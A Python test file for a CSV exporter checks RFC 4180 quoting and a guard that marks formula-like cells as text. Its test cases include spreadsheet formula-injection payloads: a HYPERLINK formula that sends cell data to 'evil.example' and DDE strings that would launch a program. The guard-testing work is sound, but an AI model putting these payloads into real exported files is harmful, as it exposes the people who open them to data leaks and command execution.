"""CSV as RFC 4180 has it, in which no cell is a formula."""

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from rutter.pipeline.output.csv_table import as_csv, guarded
from tests.support.case_table import for_each


def test_cells_are_quoted_where_they_must_be_and_lines_end_in_crlf() -> None:
    text = as_csv(["a", "b"], [['say "hi"', "1,5"], ["two\nlines", ""], ["é", "x"]])
    assert text == 'a,b\r\n"say ""hi""","1,5"\r\n"two\nlines",\r\né,x\r\n'


def test_an_empty_row_is_a_row() -> None:
    assert as_csv(["a"], [[""]]) == 'a\r\n""\r\n'


@for_each(
    "cell",
    [
        *("=1+1", '=HYPERLINK("http://evil.example?"&A1,"Total")', "+cmd|' /C calc'!A0"),
        *("-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1", " =1", "\n=1", "\uff1d1+1"),
        *("\u22121+1", "|calc", "%0A=1", "+31 6 1234 x"),
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_compute_is_marked_as_text(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert as_csv([cell], [], guard=False) == as_csv([cell], [], guard=True).replace("'", "", 1)


@for_each(
    "cell",
    [
        *("", "plain", "1007", "-5", "+5", "-1.250,00", "-0.5", "-3e10", "-12 %", "a=b"),
        *("e-mail", "1-2"),
    ],
)
def test_numbers_and_words_are_left_as_they_are(cell: str) -> None:
    assert guarded(cell) == cell


@given(
    rows=st.lists(
        st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2)
    )
)
def test_whatever_is_in_it_another_reader_finds_the_same_cells(rows: list[list[str]]) -> None:
    text = as_csv(["a", "b"], rows, guard=False)
    assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == [["a", "b"], *rows]
    for row in csv.reader(io.StringIO(as_csv(["a", "b"], rows), newline="")):
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row)
